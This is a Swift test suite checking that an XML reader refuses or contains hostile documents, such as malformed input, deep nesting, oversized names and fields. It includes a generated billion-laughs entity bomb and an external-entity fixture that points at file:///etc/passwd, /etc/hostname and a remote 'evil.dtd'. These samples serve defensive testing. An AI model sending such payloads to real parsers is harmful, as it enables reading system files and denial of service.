import Pipeline
import Readers
import Testing

/// Documents that mean harm, or were harmed: a reject or a clear stop with its place, and what came before is kept.
@Suite struct XMLHostilityTests {
  static func reader(_ more: [(String, Setting)] = []) throws -> any Reader {
    try xml(
      record: "/all/r", fields: ["v": ["path": "v", "optional": "true"], "a": ["path": "@a", "optional": "true"]], more)
  }

  static let ignore: (String, Setting) = ("doctype", "ignore")
  static let good = "<r><v>1</v></r>\n"

  @Test(arguments: [
    ("two roots", "<all>\n\(good)</all>\n<all>\(good)</all>", "I311@4#2 the XML is not well-formed: Extra content"),
    ("cut off", "<all>\n\(good)<r><v>2", "I311@3#2 the XML is not well-formed: it ends within an element"),
    ("cut off in a tag", "<all>\n\(good)<r a=", "I311@3#2 the XML is not well-formed"),
    ("crossed tags", "<all>\n\(good)<r><v></r></v></all>", "I311@3#2 the XML is not well-formed: Opening and ending"),
    ("NUL", "<all>\n\(good)<r><v>a\0b</v></r></all>", "I311@3#2 the XML is not well-formed"),
    ("control", "<all>\n\(good)<r><v>\u{1}</v></r></all>", "I311@3#2 the XML is not well-formed"),
    (
      "attribute twice", "<all>\n\(good)<r a='1' a='2'/></all>",
      "I311@3#2 the XML is not well-formed: Attribute a redef"
    ),
    ("unknown entity", "<all>\n\(good)<r><v>&lol;</v></r></all>", "I311@3#2 the XML is not well-formed: Entity 'lol'"),
    ("no XML", "<all>\n\(good)nothing", "I311@3#2"),
  ])
  func stops(_ name: String, _ document: String, _ reject: String) throws {
    for step in [1, Int.max] {
      let outcome = try readXML(MemorySource(Array(document.utf8), step: step), with: Self.reader())
      #expect(outcome.records == ["v=1"], "\(name)")
      #expect(outcome.rejects.count == 1, "\(name)")
      #expect(outcome.rejects.first?.hasPrefix(reject) == true, "\(outcome.rejects)")
    }
  }

  @Test func nothing() throws {
    let outcome = try readXML("", with: Self.reader())
    #expect(outcome.records == [])
    #expect(outcome.rejects == [])
  }

  @Test(arguments: [" \n ", "no XML at all", "<", "<?xml version='1.0'?>", "{\"a\": 1}"])
  func noDocument(_ text: String) throws {
    let outcome = try readXML(text, with: Self.reader())
    #expect(outcome.records == [])
    #expect(outcome.rejects.count == 1)
    #expect(outcome.rejects.first?.hasPrefix("I311@") == true, "\(outcome.rejects)")
  }

  @Test(arguments: [
    ("invalid UTF-8", Array("<all>\n\(good)<r><v>".utf8) + [0xFF, 0xC0] + Array("</v></r></all>".utf8)),
    ("unknown encoding", Array("<?xml version='1.0' encoding='klingon'?><all>\n\(good)</all>".utf8)),
    ("UTF-16 that is none", Array("<?xml version='1.0' encoding='UTF-16'?><all>\n\(good)</all>".utf8)),
  ])
  func wrongEncodings(_ name: String, _ bytes: [UInt8]) throws {
    let outcome = try readXML(MemorySource(bytes), with: Self.reader())
    #expect(outcome.rejects.count == 1, "\(name)")
    #expect(outcome.rejects.first?.hasPrefix("I311@") == true, "\(outcome.rejects)")
  }

  static let bomb: String = {
    var text = "<!DOCTYPE all [\n<!ENTITY a 'ha'>\n"
    let names = Array("abcdefghijk")
    for index in 1..<names.count {
      text += "<!ENTITY \(names[index]) '\(String(repeating: "&\(names[index - 1]);", count: 10))'>\n"
    }
    return text + "]>\n"
  }()

  @Test func entityBombs() throws {
    let document = Self.bomb + "<all><r><v>1</v></r><r><v>&k;</v></r></all>"
    let refused = try readXML(document, with: Self.reader())
    #expect(refused.rejects == ["I312@1#1 the XML has a document type declaration"])
    #expect(refused.records == [])
    let ignored = try readXML(document, with: Self.reader([Self.ignore]))
    #expect(ignored.records == ["v=1"])
    #expect(ignored.rejects == ["R133@14#2 entity '&k;' is unknown"])
  }

  /// The record that has an entity of an ignored document type is refused, and the file read on, whatever it says of itself.
  @Test(arguments: ["", "<?xml version='1.0' standalone='yes'?>"])
  func entitiesOfAnIgnoredType(_ head: String) throws {
    let document =
      head
      + "<!DOCTYPE all [<!ENTITY s 'S'>]><all><r><v>1</v></r><r><v>a &s; b</v></r><r x='&s;'/><r><v>2</v></r></all>"
    let outcome = try readXML(document, with: Self.reader([Self.ignore]))
    #expect(outcome.records == ["v=1", "v=2"])
    #expect(outcome.rejects == ["R133@1#2 entity '&s;' is unknown", "R133@1#3 entity '&s;' is unknown"])
  }

  /// With an external subset, XML allows unknown entities: the record is refused, and the file read on.
  @Test(arguments: ["<r><v>&x;</v></r>", "<r a='&x;'/>"])
  func externalEntitiesAreNeverRead(_ record: String) throws {
    let document = """
      <!DOCTYPE all SYSTEM "file:///etc/passwd" [
      <!ENTITY x SYSTEM "file:///etc/hostname">
      <!ENTITY % y SYSTEM "http://192.0.2.1/evil.dtd"> %y;
      ]>
      <all>\(record)<r><v>2</v></r></all>
      """
    let outcome = try readXML(document, with: Self.reader([Self.ignore]))
    #expect(outcome.records == ["v=2"])
    #expect(outcome.rejects == ["R133@5#1 entity '&x;' is unknown"])
  }

  @Test func defaultsOfADTDAreLeftOut() throws {
    let document = "<!DOCTYPE all [<!ATTLIST r a CDATA 'given'>]><all><r><v>1</v></r></all>"
    #expect(try readXML(document, with: Self.reader([Self.ignore])).records == ["v=1"])
  }

  @Test func depth() throws {
    let nested = String(repeating: "<n>", count: 100_000)
    let outcome = try readXML("<all>\n\(Self.good)<r>\n\(nested)", with: Self.reader())
    #expect(outcome.records == ["v=1"])
    #expect(outcome.rejects == ["I313@4#2 elements nest deeper than 64"])
    let deepest = String(repeating: "<n>", count: 62) + String(repeating: "</n>", count: 62)
    #expect(try readXML("<all><r>\(deepest)<v>1</v></r></all>", with: Self.reader()).records == ["v=1"])
  }

  @Test func attributesAndNames() throws {
    func attributes(_ count: Int) -> String { (0..<count).map { " b\($0)='1'" }.joined() }
    #expect(try readXML("<all><r\(attributes(256))><v>1</v></r></all>", with: Self.reader()).records == ["v=1"])
    let many = try readXML("<all>\(Self.good)<r\(attributes(257))/></all>", with: Self.reader())
    #expect(many.rejects == ["I313@2#2 an element has more than 256 attributes"])
    for tag in [String(repeating: "n", count: 1025), "n \(String(repeating: "a", count: 1025))='1'"] {
      let long = try readXML("<all>\(Self.good)<\(tag)/></all>", with: Self.reader())
      #expect(long.rejects == ["I313@2#2 a name is longer than 1024 bytes"])
    }
  }

  @Test(arguments: ["<r a='", "<!--", "<?pi ", "<r a='1' b='"])
  func endlessMarkup(_ start: String) throws {
    let outcome = try readXML(
      "<all>\n\(Self.good)\(start)\(String(repeating: "x", count: 30 << 20))", with: Self.reader())
    #expect(outcome.records == ["v=1"])
    #expect(outcome.rejects == ["I313@3#2 a tag, comment or declaration is longer than 4194304 bytes"])
  }

  @Test func longFieldsAndRecords() throws {
    let field = String(repeating: "x", count: (1 << 20) + 1)
    for record in ["<r><v>\(field)</v></r>", "<r a='\(field)'/>"] {
      let outcome = try readXML("<all>\n\(record)\(Self.good)</all>", with: Self.reader())
      #expect(outcome.records == ["v=1"])
      #expect(outcome.rejects.count == 1)
      #expect(outcome.rejects[0].hasPrefix("R135@2#1 field"))
    }
    // In pieces, as long texts come.
    let own = try xml(record: "/all/r", fields: ["v": ["path": "v/text()", "optional": "true"]])
    for count in [1_060_000, 2_000_000] {
      let text = String(repeating: "0123456789", count: count / 10)
      let outcome = try readXML("<all>\n<r><v>\(text)</v></r>\(Self.good)</all>", with: own)
      #expect(outcome.records == ["v=1"])
      #expect(outcome.rejects.map { $0.prefix(10) } == ["R135@2#1 f"])
    }
    // Nothing of it is kept, but it is one record.
    let padding = String(repeating: "<p>\(String(repeating: "y", count: 1000))</p>\n", count: 5000)
    let large = try readXML("<all>\n<r><v>0</v>\(padding)</r>\(Self.good)</all>", with: Self.reader())
    #expect(large.records == ["v=1"])
    #expect(large.rejects.count == 1)
    #expect(large.rejects[0].hasPrefix("R001@2#1 record of 5040"), "\(large.rejects)")
    #expect(large.places[0].hasPrefix("5002:"))
  }

  /// Text without end is passed over, or refused as a field, and needs no memory of its size.
  @Test func longText() throws {
    let text = String(repeating: "0123456789abcde\n", count: 1 << 20)
    let outcome = try readXML("<all>\(text)<r><v>\(text)</v></r>\(Self.good)</all>", with: Self.reader())
    #expect(outcome.records == ["v=1"])
    #expect(outcome.rejects.count == 1)
    #expect(outcome.rejects[0].hasPrefix("R001@1048577#1"), "\(outcome.rejects)")
  }

  /// Names that never come again: what is learnt of them must not be kept for ever.
  @Test func manyNames() throws {
    let reader = try xml(record: "//r", fields: ["v": ["path": ".//v", "optional": "true"]])
    let names = (0..<100_000).map { "<n\($0)/>" }.joined()
    let outcome = try readXML("<all>\(names)<r><n1/><v>1</v></r></all>", with: reader)
    #expect(outcome.records == ["v=1"])
    #expect(outcome.rejects == [])
  }

  /// libxml2 keeps every name, and searches them in a time that grows with their square.
  @Test(arguments: [#"<n# />"#, #"<n xmlns:p#="u"/>"#, #"<n xmlns:p="u#"/>"#, #"<n a#="1"/>"#])
  func tooManyNames(_ element: String) throws {
    let names = (0..<260_000).map { element.replacing("#", with: "\($0)") }.joined(separator: "\n")
    let outcome = try readXML("<all>\(Self.good)\(names)\(Self.good)</all>", with: Self.reader())
    #expect(outcome.records == ["v=1"])
    #expect(outcome.rejects.count == 1)
    #expect(outcome.rejects.first?.hasPrefix("I313@") == true)
    #expect(outcome.rejects.first?.hasSuffix("the document has more than 200000 different names") == true)
  }
}
